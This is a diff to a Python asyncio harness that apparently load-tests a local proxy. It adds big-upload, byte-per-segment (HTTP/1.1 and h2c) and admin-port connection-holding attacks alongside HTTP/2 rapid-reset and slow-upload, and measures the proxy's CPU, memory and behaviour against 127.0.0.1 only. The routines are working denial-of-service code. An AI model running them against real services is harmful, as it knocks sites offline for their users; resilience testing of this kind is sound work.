@@ -3,6 +3,10 @@
 
   attack.py rapid-reset --port P --origin-stats S --seconds 30 [--proxy-pid PID ...]
   attack.py slow-upload --port P --origin-stats S --seconds 40 [--uploaders 500] ...
+  attack.py big-uploads ... --body-bytes 2000000          (slow-upload with big bodies)
+  attack.py byte-bodies ... [--byte-rate 10]              (HTTP/1.1, a byte per segment)
+  attack.py byte-bodies-h2 ... [--byte-rate 10]           (h2c, a byte per DATA frame)
+  attack.py admin-hold --port ADMIN --path /healthz --seconds 40 [--clients 500] ...
 
 rapid-reset: one h2c (prior knowledge) connection sends, every --interval-ms, bursts of --burst x
 (HEADERS with END_STREAM for GET /, then RST_STREAM CANCEL on that stream), reading and
@@ -12,22 +16,35 @@ on. Counted: streams sent (each opened on the wire), those of them the proxy own
 GOAWAY's last stream id (all on a connection that ended without GOAWAY), responses and RST_STREAMs from the proxy, and every time the proxy
 cut the client off, by GOAWAY error code ("eof" / "reset": closed without GOAWAY).
 
-slow-upload: --uploaders HTTP/1.1 clients (connected over the first second) each send
-POST /upload with Content-Length: --body-bytes, then one body byte per second. When the proxy
-answers or closes, the client records how and reconnects at once.
+slow-upload, big-uploads, byte-bodies: --uploaders HTTP/1.1 clients (connected over the first
+second) each send POST /upload with Content-Length: --body-bytes, then the body one byte per
+send (TCP_NODELAY: one TCP segment each), --byte-rate bytes a second (1 for slow-upload and
+big-uploads, 10 for byte-bodies unless given). byte-bodies-h2: the same over h2c, HEADERS with
+content-length, then one DATA frame of one byte per send (flow control respected). When the
+proxy answers or closes (h2: GOAWAY refusing the stream, RST_STREAM, or a response), the client
+records how and reconnects at once.
 
-Both: a normal client sends one GET every --normal-interval-ms, each on a new connection of its
-own (h2c prior knowledge for rapid-reset, HTTP/1.1 for slow-upload; --normal-proto to choose),
-open loop: a slow answer does not delay the next request. A request succeeds on a 200 within
---normal-timeout seconds. The origin's counters (scripts/edge/origin.py) are sampled every
---sample-ms; the proxy's CPU time (utime+stime of --proxy-pid and its descendants) is read
-before and after. Only 127.0.0.1 is contacted.
+admin-hold: --clients connections each send half a request head for GET --path (no blank line)
+and stop, and --clients more each send one whole keep-alive GET --path, read the answer and sit
+idle; nobody reconnects. Counted at each of --checkpoints seconds and at the end: how many of
+each kind are still open, and the proxy's RSS; how and when the proxy closed the others.
+
+All: a normal client sends one GET --path every --normal-interval-ms, each on a new connection
+of its own (h2c prior knowledge for rapid-reset and byte-bodies-h2, HTTP/1.1 otherwise;
+--normal-proto to choose), open loop: a slow answer does not delay the next request. A request
+succeeds on a 200 within --normal-timeout seconds. The origin's counters (scripts/edge/origin.py)
+and the proxy's RSS (VmRSS of --proxy-pid and its descendants) are sampled every --sample-ms;
+the RSS is read at the start, at the end of the attack (clients still connected) and
+--settle-seconds after every client left; the attack ends early if the RSS passes --max-rss-mib.
+The proxy's CPU time (utime+stime of the same processes) is read before and after. Only
+127.0.0.1 is contacted.
 """
 import argparse
 import asyncio
 import json
 import math
 import os
+import socket
 import struct
 import sys
 import time
@@ -155,11 +172,11 @@ def close_writer(writer):
 # ------------------------------------------------------------------------------------------
 # The normal client
 
-async def normal_h2(port, authority):
+async def normal_h2(port, authority, path=b"/"):
     reader, writer = await asyncio.open_connection(HOST, port)
     try:
         writer.write(PREFACE + CLIENT_SETTINGS + WINDOW_BOOST +
-                     frame(HEADERS, END_STREAM | END_HEADERS, 1, hpack_get(authority)))
+                     frame(HEADERS, END_STREAM | END_HEADERS, 1, hpack_get(authority, path)))
         await writer.drain()
         status = None
         while True:
@@ -189,10 +206,10 @@ async def normal_h2(port, authority):
         close_writer(writer)
 
 
-async def normal_h1(port, authority):
+async def normal_h1(port, authority, path=b"/"):
     reader, writer = await asyncio.open_connection(HOST, port)
     try:
-        writer.write(b"GET / HTTP/1.1\r\nHost: " + authority + b"\r\nConnection: close\r\n\r\n")
+        writer.write(b"GET " + path + b" HTTP/1.1\r\nHost: " + authority + b"\r\nConnection: close\r\n\r\n")
         await writer.drain()
         head = await reader.readuntil(b"\r\n\r\n")
         status = int(head.split(b" ", 2)[1])
@@ -209,7 +226,7 @@ async def normal_h1(port, authority):
         close_writer(writer)
 
 
-async def normal_client(args, stop_at, results):
+async def normal_client(args, deadline, results):
     authority = f"{HOST}:{args.port}".encode()
     one = normal_h2 if args.normal_proto == "h2c" else normal_h1
     tasks = []
@@ -217,7 +234,8 @@ async def normal_client(args, stop_at, results):
     async def request():
         start = time.monotonic()
         try:
-            outcome = await asyncio.wait_for(one(args.port, authority), args.normal_timeout)
+            outcome = await asyncio.wait_for(one(args.port, authority, args.path.encode()),
+                                             args.normal_timeout)
         except asyncio.TimeoutError:
             outcome = "timeout"
         except (ConnectionRefusedError,) as error:
@@ -229,7 +247,7 @@ async def normal_client(args, stop_at, results):
         results.append((outcome, time.monotonic() - start))
 
     next_at = time.monotonic()
-    while next_at < stop_at:
+    while next_at < deadline.at:
         tasks.append(asyncio.create_task(request()))
         next_at += args.normal_interval_ms / 1000
         await asyncio.sleep(max(0.0, next_at - time.monotonic()))
@@ -252,7 +270,27 @@ def summarize_normal(results):
 
 
 # ------------------------------------------------------------------------------------------
-# Origin counters and proxy CPU
+# The run's deadline, origin counters, proxy CPU and memory
+
+class Deadline:
+    """When the attack ends: --seconds after the start, or earlier when the proxy's memory
+    passes --max-rss-mib (the sampler moves it)."""
+
+    def __init__(self, at):
+        self.at = at
+
+    def passed(self):
+        return time.monotonic() >= self.at
+
+    def left(self):
+        return max(0.0, self.at - time.monotonic())
+
+    async def sleep(self, seconds):
+        """Sleeps for seconds, or until the deadline if that comes first (even if moved)."""
+        until = time.monotonic() + seconds
+        while not self.passed() and time.monotonic() < until:
+            await asyncio.sleep(min(0.25, until - time.monotonic(), self.left()))
+
 
 async def origin_stats(port, command="stats"):
     reader, writer = await asyncio.open_connection(HOST, port)
@@ -264,13 +302,24 @@ async def origin_stats(port, command="stats"):
         close_writer(writer)
 
 
-async def sampler(port, stop_at, samples):
-    while time.monotonic() < stop_at:
+async def sampler(args, deadline, samples, memory, run_state):
+    """Every --sample-ms until the deadline: the origin's counters and the proxy's RSS; one
+    more RSS reading as the deadline passes (the memory "at the end", clients still there)."""
+    while not deadline.passed():
         try:
-            samples.append(await origin_stats(port))
+            samples.append(await origin_stats(args.origin_stats))
         except OSError:
             pass
-        await asyncio.sleep(args_global.sample_ms / 1000)
+        rss = rss_kib(args.proxy_pid)
+        memory["peak_kib"] = max(memory["peak_kib"], rss)
+        if args.max_rss_mib and rss > args.max_rss_mib * 1024 and not deadline.passed():
+            run_state["stopped_early"] = f"proxy RSS passed {args.max_rss_mib} MiB"
+            run_state["stopped_after_s"] = round(time.monotonic() - run_state["start"], 2)
+            deadline.at = time.monotonic()
+            break
+        await asyncio.sleep(min(args.sample_ms / 1000, deadline.left()))
+    memory["end_kib"] = rss_kib(args.proxy_pid)
+    memory["peak_kib"] = max(memory["peak_kib"], memory["end_kib"])
 
 
 def tree(pid):
@@ -298,10 +347,27 @@ def cpu_seconds(pids):
     return total / os.sysconf("SC_CLK_TCK")
 
 
+def rss_kib(pids):
+    """Resident memory of --proxy-pid and its descendants (VmRSS summed: nginx's master and
+    worker; pages they share count twice, a constant that cancels out of any growth)."""
+    total = 0
+    for root in pids:
+        for pid in tree(root):
+            try:
+                with open(f"/proc/{pid}/status") as f:
+                    for line in f:
+                        if line.startswith("VmRSS:"):
+                            total += int(line.split()[1])
+                            break
+            except OSError:
+                pass
+    return total
+
+
 # ------------------------------------------------------------------------------------------
 # Rapid reset
 
-async def rapid_reset(args, stop_at, out):
+async def rapid_reset(args, deadline, out):
     authority = f"{HOST}:{args.port}".encode()
     block = hpack_get(authority)
     cutoffs = {}
@@ -312,7 +378,7 @@ async def rapid_reset(args, stop_at, out):
     goaway_samples = []  # GOAWAY's last stream id against the highest stream sent, first few
     start = time.monotonic()
 
-    while time.monotonic() < stop_at:
+    while not deadline.passed():
         try:
             reader, writer = await asyncio.open_connection(HOST, args.port)
         except OSError:
@@ -357,7 +423,7 @@ async def rapid_reset(args, stop_at, out):
                 writer.write(PREFACE + CLIENT_SETTINGS + WINDOW_BOOST)
                 await writer.drain()
                 next_at = time.monotonic()
-                while not done.is_set() and time.monotonic() < stop_at:
+                while not done.is_set() and not deadline.passed():
                     burst = bytearray()
                     for _ in range(args.burst):
                         burst += frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
@@ -395,7 +461,7 @@ async def rapid_reset(args, stop_at, out):
                 first_goaway_at = round(time.monotonic() - start, 3)
         else:
             totals["streams_opened"] += conn["sent"]
-        if conn["ended"] is not None and time.monotonic() < stop_at:
+        if conn["ended"] is not None and not deadline.passed():
             cutoffs[conn["ended"]] = cutoffs.get(conn["ended"], 0) + 1
     out.update(totals)
     out["cutoffs"] = cutoffs
@@ -405,13 +471,41 @@ async def rapid_reset(args, stop_at, out):
 
 
 # ------------------------------------------------------------------------------------------
-# Slow uploads
+# Slow uploads, big uploads, bodies a byte per segment (HTTP/1.1)
 
-async def slow_uploads(args, stop_at, out):
+def nodelay(writer):
+    """One send, one TCP segment: asyncio sets TCP_NODELAY already; say so explicitly."""
+    sock = writer.get_extra_info("socket")
+    if sock is not None:
+        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+
+
+def next_send(next_at, interval):
+    """When the next byte is due: on schedule, catching up (one send a byte, each its own
+    segment) when behind, but never by more than a second's worth."""
+    now = time.monotonic()
+    return max(next_at + interval, now - 1.0)
+
+
+async def paced_wait(next_at, deadline, event):
+    """Waits until next_at (or the deadline), returning early when event is set; when next_at
+    has passed, only lets the other clients run."""
+    wait = min(next_at - time.monotonic(), deadline.left())
+    if wait <= 0 or event.is_set():
+        await asyncio.sleep(0)
+        return
+    try:
+        await asyncio.wait_for(event.wait(), wait)
+    except asyncio.TimeoutError:
+        pass
+
+
+async def slow_uploads(args, deadline, out):
     authority = f"{HOST}:{args.port}".encode()
     head = (b"POST /upload HTTP/1.1\r\nHost: " + authority +
             b"\r\nContent-Type: application/octet-stream\r\nContent-Length: " +
             str(args.body_bytes).encode() + b"\r\n\r\n")
+    interval = 1 / args.byte_rate
     stats = {"connections": 0, "connect_failures": 0, "bytes_sent": 0, "completed_bodies": 0}
     cutoffs = {}
     connected_now = [0]
@@ -422,13 +516,14 @@ async def slow_uploads(args, stop_at, out):
 
     async def uploader(index):
         await asyncio.sleep(index / args.uploaders)  # spread the connects over the first second
-        while time.monotonic() < stop_at:
+        while not deadline.passed():
             try:
                 reader, writer = await asyncio.open_connection(HOST, args.port)
             except OSError:
                 stats["connect_failures"] += 1
                 await asyncio.sleep(0.05)
                 continue
+            nodelay(writer)
             stats["connections"] += 1
             connected_now[0] += 1
             most_connected[0] = max(most_connected[0], connected_now[0])
@@ -453,27 +548,25 @@ async def slow_uploads(args, stop_at, out):
                 writer.write(head)
                 await writer.drain()
                 sent = 0
-                while time.monotonic() < stop_at and not answered.is_set():
-                    writer.write(b"x")
+                next_at = time.monotonic()
+                while not deadline.passed() and not answered.is_set():
+                    writer.write(b"x")  # one byte, one segment
                     await writer.drain()
                     sent += 1
                     stats["bytes_sent"] += 1
                     if sent >= args.body_bytes:
                         stats["completed_bodies"] += 1
                         break
-                    try:
-                        await asyncio.wait_for(answered.wait(),
-                                               min(1.0, max(0.0, stop_at - time.monotonic())))
-                    except asyncio.TimeoutError:
-                        pass
+                    next_at = next_send(next_at, interval)
+                    await paced_wait(next_at, deadline, answered)
             except (ConnectionError, OSError):
                 pass
-            if time.monotonic() < stop_at:
+            if not deadline.passed():
                 try:
                     await asyncio.wait_for(answered.wait(), 0.5)
                 except asyncio.TimeoutError:
                     pass
-            if answered.is_set() and time.monotonic() < stop_at:
+            if answered.is_set() and not deadline.passed():
                 cut(reason[0])
             reading.cancel()
             close_writer(writer)
@@ -486,39 +579,282 @@ async def slow_uploads(args, stop_at, out):
 
 
 # ------------------------------------------------------------------------------------------
+# Bodies a byte per DATA frame (h2c)
 
-args_global = None
+def hpack_int(value, prefix, first_bits=0):
+    mask = (1 << prefix) - 1
+    if value < mask:
+        return bytes([first_bits | value])
+    out = bytearray([first_bits | mask])
+    value -= mask
+    while value >= 0x80:
+        out.append((value & 0x7f) | 0x80)
+        value >>= 7
+    out.append(value)
+    return bytes(out)
+
+
+def hpack_post(authority: bytes, path: bytes, length: int) -> bytes:
+    """POST http://authority/path with content-length: :method POST and :scheme http from the
+    static table, the rest literals without indexing (names from the static table)."""
+    def literal(name_index, value):
+        return hpack_int(name_index, 4) + hpack_int(len(value), 7) + value
+    return (b"\x83\x86" + literal(4, path) + literal(1, authority) +
+            literal(28, str(length).encode()))  # 28: content-length
+
+
+async def byte_bodies_h2(args, deadline, out):
+    authority = f"{HOST}:{args.port}".encode()
+    block = hpack_post(authority, b"/upload", args.body_bytes)
+    interval = 1 / args.byte_rate
+    stats = {"connections": 0, "connect_failures": 0, "bytes_sent": 0, "completed_bodies": 0,
+             "flow_control_stalls": 0}
+    cutoffs = {}
+    connected_now = [0]
+    most_connected = [0]
+
+    def cut(reason):
+        cutoffs[reason] = cutoffs.get(reason, 0) + 1
+
+    async def uploader(index):
+        await asyncio.sleep(index / args.uploaders)  # spread the connects over the first second
+        while not deadline.passed():
+            try:
+                reader, writer = await asyncio.open_connection(HOST, args.port)
+            except OSError:
+                stats["connect_failures"] += 1
+                await asyncio.sleep(0.05)
+                continue
+            nodelay(writer)
+            stats["connections"] += 1
+            connected_now[0] += 1
+            most_connected[0] = max(most_connected[0], connected_now[0])
+            # the proxy's flow-control windows for what we send
+            window = {"conn": 65535, "stream": 65535, "initial": 65535}
+            window_grew = asyncio.Event()
+            ended = asyncio.Event()
+            reason = [None]
+
+            async def read_loop():
+                try:
+                    while True:
+                        kind, flags, stream, payload = await read_frame(reader)
+                        if kind == SETTINGS and not flags & ACK:
+                            for i in range(0, len(payload) - 5, 6):
+                                ident, value = struct.unpack(">HI", payload[i:i + 6])
+                                if ident == 0x4:  # INITIAL_WINDOW_SIZE
+                                    window["stream"] += value - window["initial"]
+                                    window["initial"] = value
+                            writer.write(SETTINGS_ACK)
+                            window_grew.set()
+                        elif kind == PING and not flags & ACK:
+                            writer.write(frame(PING, ACK, 0, payload))
+                        elif kind == WINDOW_UPDATE:
+                            increment = struct.unpack(">I", payload[:4])[0] & 0x7fffffff
+                            if stream == 0:
+                                window["conn"] += increment
+                            elif stream == 1:
+                                window["stream"] += increment
+                            window_grew.set()
+                        elif kind == GOAWAY:
+                            last, code = struct.unpack(">II", payload[:8])
+                            if last & 0x7fffffff < 1:  # our stream is not going to be served
+                                reason[0] = f"GOAWAY {error_name(code)}"
+                                return
+                        elif kind == RST_STREAM and stream == 1:
+                            reason[0] = f"RST_STREAM {error_name(struct.unpack('>I', payload)[0])}"
+                            return
+                        elif kind == HEADERS and stream == 1:
+                            reason[0] = f"answered {decode_status(header_block(flags, payload))}"
+                            return
+                except asyncio.IncompleteReadError:
+                    reason[0] = "closed (EOF)"
+                except (ConnectionError, OSError):
+                    reason[0] = "closed (reset)"
+                finally:
+                    ended.set()
+
+            reading = asyncio.create_task(read_loop())
+            try:
+                writer.write(PREFACE + CLIENT_SETTINGS + WINDOW_BOOST +
+                             frame(HEADERS, END_HEADERS, 1, block))
+                await writer.drain()
+                sent = 0
+                next_at = time.monotonic()
+                while not deadline.passed() and not ended.is_set():
+                    if min(window["conn"], window["stream"]) <= 0:
+                        stats["flow_control_stalls"] += 1
+                        window_grew.clear()
+                        await paced_wait(time.monotonic() + 1.0, deadline, window_grew)
+                        continue
+                    last = sent + 1 >= args.body_bytes
+                    writer.write(frame(DATA, END_STREAM if last else 0, 1, b"x"))  # one frame, one segment
+                    await writer.drain()
+                    window["conn"] -= 1
+                    window["stream"] -= 1
+                    sent += 1
+                    stats["bytes_sent"] += 1
+                    if last:
+                        stats["completed_bodies"] += 1
+                        break
+                    next_at = next_send(next_at, interval)
+                    await paced_wait(next_at, deadline, ended)
+            except (ConnectionError, OSError):
+                pass
+            if not deadline.passed():
+                try:
+                    await asyncio.wait_for(ended.wait(), 0.5)
+                except asyncio.TimeoutError:
+                    pass
+            if ended.is_set() and not deadline.passed():
+                cut(reason[0])
+            reading.cancel()
+            close_writer(writer)
+            connected_now[0] -= 1
+
+    await asyncio.gather(*(uploader(i) for i in range(args.uploaders)))
+    out.update(stats)
+    out["most_connected_at_once"] = most_connected[0]
+    out["cutoffs"] = cutoffs
+
+
+# ------------------------------------------------------------------------------------------
+# Connections held on the admin (management) port
+
+async def admin_hold(args, deadline, out):
+    """--clients connections send half a request head (no blank line) and stop; --clients more
+    send one whole keep-alive GET --path, read the answer and sit idle. Nobody reconnects: the
+    counts show how long the proxy keeps them."""
+    authority = f"{HOST}:{args.port}".encode()
+    request = b"GET " + args.path.encode() + b" HTTP/1.1\r\nHost: " + authority + b"\r\n"
+    start = time.monotonic()
+    conns = []
+
+    async def hold(kind, index):
+        await asyncio.sleep(index / (2 * args.clients))  # spread the connects over the first second
+        c = {"kind": kind, "open": False, "connect": None, "status": None, "ended": None,
+             "closed_after": None}
+        conns.append(c)
+        try:
+            reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, args.port), 5.0)
+        except asyncio.TimeoutError:
+            c["connect"] = "connect timed out (5 s)"
+            return
+        except OSError as error:
+            c["connect"] = f"connect failed ({type(error).__name__})"
+            return
+        c["open"] = True
+        try:
+            writer.write(request if kind == "half" else request + b"\r\n")
+            await writer.drain()
+            while True:
+                data = await reader.read(65536)
+                if not data:
+                    c["ended"] = "closed (EOF)"
+                    break
+                if c["status"] is None and data.startswith(b"HTTP/1."):
+                    c["status"] = data.split(b" ", 2)[1].decode(errors="replace")
+        except (ConnectionError, OSError):
+            c["ended"] = "closed (reset)"
+        finally:
+            if c["ended"] is not None:  # the proxy closed it; else the run is over
+                c["open"] = False
+                c["closed_after"] = time.monotonic() - start
+            close_writer(writer)
+
+    def open_now(rss=None):
+        counts = {kind: sum(1 for c in conns if c["kind"] == kind and c["open"])
+                  for kind in ("half", "idle")}
+        counts["rss_kib"] = rss_kib(args.proxy_pid) if rss is None else rss
+        return counts
+
+    tasks = [asyncio.create_task(hold(kind, 2 * i + (kind == "idle")))
+             for i in range(args.clients) for kind in ("half", "idle")]
+    open_at = []
+    for checkpoint in sorted(float(x) for x in args.checkpoints.split(",") if x.strip()):
+        if checkpoint >= args.seconds:
+            continue
+        await deadline.sleep(start + checkpoint - time.monotonic())
+        if deadline.passed():
+            break
+        open_at.append({"after_s": checkpoint, **open_now()})
+    while not deadline.passed():
+        await asyncio.sleep(min(0.25, deadline.left()))
+    open_at.append({"after_s": round(time.monotonic() - start, 1), "end": True, **open_now()})
+    for task in tasks:
+        task.cancel()
+    await asyncio.gather(*tasks, return_exceptions=True)
+
+    def summary(kind):
+        mine = [c for c in conns if c["kind"] == kind]
+        closed = sorted(c["closed_after"] for c in mine if c["closed_after"] is not None)
+        statuses, ends, failures = {}, {}, {}
+        for c in mine:
+            if c["status"] is not None:
+                statuses[c["status"]] = statuses.get(c["status"], 0) + 1
+            if c["ended"] is not None:
+                how = (f"answered {c['status']}, then " if c["status"] and kind == "half" else "") + c["ended"]
+                ends[how] = ends.get(how, 0) + 1
+            if c["connect"] is not None:
+                failures[c["connect"]] = failures.get(c["connect"], 0) + 1
+        return {"connected": sum(1 for c in mine if c["connect"] is None),
+                "connect_failures": failures, "answers": statuses, "closed_by_proxy": ends,
+                "closed_after_s": None if not closed else {
+                    "min": round(closed[0], 1), "median": round(closed[len(closed) // 2], 1),
+                    "max": round(closed[-1], 1)}}
+    out["half"] = summary("half")
+    out["idle"] = summary("idle")
+    out["open_at"] = open_at
+
+
+# ------------------------------------------------------------------------------------------
+
+RUNNERS = {"rapid-reset": rapid_reset, "slow-upload": slow_uploads, "big-uploads": slow_uploads,
+           "byte-bodies": slow_uploads, "byte-bodies-h2": byte_bodies_h2, "admin-hold": admin_hold}
 
 
 async def run(args):
     baseline = await origin_stats(args.origin_stats, "reset")
     cpu_before = cpu_seconds(args.proxy_pid)
+    rss_start = rss_kib(args.proxy_pid)
+    memory = {"start_kib": rss_start, "peak_kib": rss_start}
     start = time.monotonic()
-    stop_at = start + args.seconds
+    deadline = Deadline(start + args.seconds)
+    run_state = {"start": start, "stopped_early": None, "stopped_after_s": None}
     normal, samples, attack = [], [], {}
-    runner = rapid_reset if args.attack == "rapid-reset" else slow_uploads
-    await asyncio.gather(runner(args, stop_at, attack), normal_client(args, stop_at, normal),
-                         sampler(args.origin_stats, stop_at, samples))
+    await asyncio.gather(RUNNERS[args.attack](args, deadline, attack),
+                         normal_client(args, deadline, normal),
+                         sampler(args, deadline, samples, memory, run_state))
     elapsed = time.monotonic() - start
     cpu = cpu_seconds(args.proxy_pid) - cpu_before
     final = await origin_stats(args.origin_stats)
+    # every client is gone: does the proxy give the memory (and the upstream connections) back?
+    await asyncio.sleep(args.settle_seconds)
+    memory["after_kib"] = rss_kib(args.proxy_pid)
+    memory["settle_s"] = args.settle_seconds
+    settled = await origin_stats(args.origin_stats)
     # normal client requests reach the origin too; the stats reads do not (other port)
     result = {
         "attack": args.attack, "proxy": args.label, "seconds": args.seconds,
         "params": {"burst": args.burst, "interval_ms": args.interval_ms,
                    "uploaders": args.uploaders, "body_bytes": args.body_bytes,
+                   "byte_rate": args.byte_rate, "clients": args.clients, "path": args.path,
                    "normal_proto": args.normal_proto,
                    "normal_interval_ms": args.normal_interval_ms},
         "elapsed_s": round(elapsed, 2),
+        "stopped_early": run_state["stopped_early"],
+        "stopped_after_s": run_state["stopped_after_s"],
         "origin": {
             "accepted": final["accepted"] - baseline["accepted"],
             "peak_open": final["peak"],
             "peak_open_sampled": max((s["open"] for s in samples), default=None),
             "open_at_start": baseline["open"],
             "open_at_end": final["open"],
+            "open_after_settle": settled["open"],
             "requests": final["requests"] - baseline["requests"],
             "aborted": final["aborted"] - baseline["aborted"],
         },
+        "memory": memory,
         "proxy_cpu_s": round(cpu, 2),
         "proxy_cpu_pct": round(cpu / elapsed * 100, 1),
         "attack_client": attack,
@@ -528,9 +864,8 @@ async def run(args):
 
 
 def main():
-    global args_global
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
-    parser.add_argument("attack", choices=["rapid-reset", "slow-upload"])
+    parser.add_argument("attack", choices=list(RUNNERS))
     parser.add_argument("--port", type=int, required=True, help="the proxy's port")
     parser.add_argument("--origin-stats", type=int, required=True)
     parser.add_argument("--seconds", type=float, required=True)
@@ -540,14 +875,28 @@ def main():
     parser.add_argument("--interval-ms", type=float, default=5.0)
     parser.add_argument("--uploaders", type=int, default=500)
     parser.add_argument("--body-bytes", type=int, default=100000)
+    parser.add_argument("--byte-rate", type=float,
+                        help="body bytes a second per uploader (default 10 for byte-bodies*, else 1)")
+    parser.add_argument("--clients", type=int, default=500,
+                        help="admin-hold: connections of each kind")
+    parser.add_argument("--checkpoints", default="10,35,65",
+                        help="admin-hold: seconds at which open connections are counted")
+    parser.add_argument("--path", default="/", help="what the normal client (and admin-hold) GETs")
     parser.add_argument("--normal-proto", choices=["h2c", "http1"])
     parser.add_argument("--normal-interval-ms", type=float, default=100.0)
     parser.add_argument("--normal-timeout", type=float, default=5.0)
     parser.add_argument("--sample-ms", type=float, default=250.0)
+    parser.add_argument("--settle-seconds", type=float, default=5.0,
+                        help="after the clients left, wait this long and read the memory again")
+    parser.add_argument("--max-rss-mib", type=float, default=4096.0,
+                        help="end the attack early when the proxy's RSS passes this (0: never)")
     args = parser.parse_args()
     if args.normal_proto is None:
-        args.normal_proto = "h2c" if args.attack == "rapid-reset" else "http1"
-    args_global = args
+        args.normal_proto = "h2c" if args.attack in ("rapid-reset", "byte-bodies-h2") else "http1"
+    if args.byte_rate is None:
+        args.byte_rate = 10.0 if args.attack.startswith("byte-bodies") else 1.0
+    if args.byte_rate <= 0:
+        parser.error("--byte-rate must be above 0")
     asyncio.run(run(args))
 
 
